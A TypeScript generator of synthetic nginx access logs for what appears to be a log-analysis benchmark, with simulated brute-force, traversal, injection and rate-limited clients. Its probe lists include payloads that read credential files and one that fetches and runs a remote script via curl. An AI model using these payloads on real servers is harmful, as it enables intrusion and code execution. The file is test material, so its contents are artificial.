// A synthetic nginx access log (the `combined` format) for the nginx bench: visitors and crawlers,
// login brute forcers (401s), users who mistype once, path-traversal and command-injection probes,
// clients over a rate limit (429). The truth of the 401s is kept like the auth.log's: the addresses
// with `threshold` 401s less than `windowSec` apart.
import { type Actor, type ActorLine, actorOf, mergeActors, WindowTruth } from './log-timeline.js';
import { SeededRandom } from './seeded-random.js';
import { uniqueAddresses } from './unique-addresses.js';

export const NGINX_ACTOR_KINDS = [
  'visitor',
  'crawler',
  'loginBrute',
  'mistyper',
  'traversal',
  'injection',
  'rateLimited',
] as const;
export type NginxActorKind = (typeof NGINX_ACTOR_KINDS)[number];

const WEIGHTS: Readonly<Record<NginxActorKind, number>> = {
  visitor: 50,
  crawler: 10,
  loginBrute: 8,
  mistyper: 10,
  traversal: 4,
  injection: 4,
  rateLimited: 3,
};

export interface NginxLogOptions {
  seed: number;
  threshold: number;
  windowSec: number;
  /** Stop starting actors once this many lines are written (those in progress finish). */
  lines: number;
  startSec?: number;
  ipv6Share?: number;
  /** Mean seconds between actor starts. Default 1. */
  meanGapSec?: number;
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const PAGES = [
  '/',
  '/about',
  '/pricing',
  '/blog/2025/12/release-notes',
  '/docs/getting-started',
  '/contact',
  '/products/42',
];
const ASSETS = ['/static/app.3f9a1c.js', '/static/app.77b0e2.css', '/favicon.ico', '/static/logo.svg'];
const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
];
const TRAVERSALS = [
  '/static/..%2f..%2f..%2fetc%2fpasswd',
  '/download?file=../../../../etc/shadow',
  '/images/%2e%2e/%2e%2e/%2e%2e/etc/hosts',
  '/api/files?path=..%5c..%5cwindows%5cwin.ini',
];
const INJECTIONS = [
  '/search?q=1%3Bcat%20%2Fetc%2Fpasswd',
  '/ping?host=127.0.0.1%7Cid',
  '/api/convert?name=a%24(curl%20http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh)',
  '/cgi-bin/status?cmd=%60uname%20-a%60',
];

function accessTime(sec: number): string {
  const d = new Date(sec * 1000);
  const pad = (n: number) => (n < 10 ? `0${n}` : String(n));
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}

/** A streamed nginx access log and the truth of its 401s. */
export function streamNginxLog(options: NginxLogOptions): { lines: Iterable<string>; truth: WindowTruth } {
  const rng = new SeededRandom(options.seed);
  const addresses = uniqueAddresses(rng, options.ipv6Share ?? 0.1);
  const truth = new WindowTruth(options.threshold, options.windowSec);
  const total = NGINX_ACTOR_KINDS.reduce((sum, kind) => sum + WEIGHTS[kind], 0);
  const meanGap = options.meanGapSec ?? 1;
  let at = options.startSec ?? Date.UTC(2026, 0, 12) / 1000;
  let written = 0;

  const request = (ip: string, time: number, method: string, path: string, status: number, agent: string) => {
    const bytes = status === 200 ? rng.int(300, 60_000) : rng.int(0, 600);
    const referer = status === 200 && rng.chance(0.5) ? 'https://example.com/' : '-';
    const line: ActorLine = {
      time,
      text: `${ip} - - [${accessTime(time)}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "${referer}" "${agent}"`,
    };
    if (status === 401) line.attemptOf = ip;
    return line;
  };

  const build = (kind: NginxActorKind, start: number): Actor => {
    const ip = addresses();
    const agent =
      kind === 'crawler'
        ? 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
        : rng.pick(BROWSERS);
    const lines: ActorLine[] = [];
    let t = start;
    const step = (min: number, max: number) => {
      t += rng.int(min, max);
      return t;
    };
    switch (kind) {
      case 'visitor':
        for (let i = rng.int(1, 6); i > 0; i--) {
          lines.push(request(ip, step(0, 20), 'GET', rng.pick(PAGES), rng.chance(0.1) ? 304 : 200, agent));
          for (const asset of ASSETS)
            if (rng.chance(0.5)) lines.push(request(ip, t, 'GET', asset, 200, agent));
          if (rng.chance(0.05)) lines.push(request(ip, t, 'GET', '/wp-admin/', 404, agent));
        }
        break;
      case 'crawler':
        for (let i = rng.int(5, 40); i > 0; i--)
          lines.push(request(ip, step(0, 3), 'GET', rng.pick(PAGES), 200, agent));
        break;
      case 'loginBrute': {
        const path = rng.pick(['/login', '/wp-login.php', '/api/session']);
        const maxGap = Math.max(1, Math.ceil((2 * options.windowSec) / options.threshold));
        for (let i = rng.int(Math.max(1, options.threshold - 3), 4 * options.threshold); i > 0; i--)
          lines.push(request(ip, step(0, maxGap), 'POST', path, 401, 'python-requests/2.31.0'));
        break;
      }
      case 'mistyper':
        lines.push(
          request(ip, t, 'GET', '/login', 200, agent),
          request(ip, step(3, 10), 'POST', '/login', 401, agent),
        );
        lines.push(
          request(ip, step(3, 10), 'POST', '/login', 302, agent),
          request(ip, step(0, 1), 'GET', '/account', 200, agent),
        );
        break;
      case 'traversal':
        for (let i = rng.int(1, 6); i > 0; i--)
          lines.push(
            request(ip, step(0, 2), 'GET', rng.pick(TRAVERSALS), rng.pick([400, 404]), 'curl/8.5.0'),
          );
        break;
      case 'injection':
        for (let i = rng.int(1, 6); i > 0; i--)
          lines.push(
            request(ip, step(0, 2), 'GET', rng.pick(INJECTIONS), rng.pick([200, 400, 500]), 'curl/8.5.0'),
          );
        break;
      case 'rateLimited':
        for (let i = rng.int(20, 60); i > 0; i--)
          lines.push(
            request(ip, step(0, 1), 'GET', '/api/search?q=x', i > 15 ? 429 : 200, 'Go-http-client/1.1'),
          );
        break;
    }
    return actorOf(start, lines);
  };

  const nextActor = (): Actor | undefined => {
    if (written >= options.lines) return undefined;
    at += Math.round(rng.exponential(meanGap));
    let pick = rng.float() * total;
    for (const kind of NGINX_ACTOR_KINDS) {
      pick -= WEIGHTS[kind];
      if (pick < 0) return build(kind, at);
    }
    return build('visitor', at);
  };
  const lines = (function* () {
    for (const line of mergeActors(nextActor, truth)) {
      written++;
      yield line;
    }
  })();
  return { lines, truth };
}
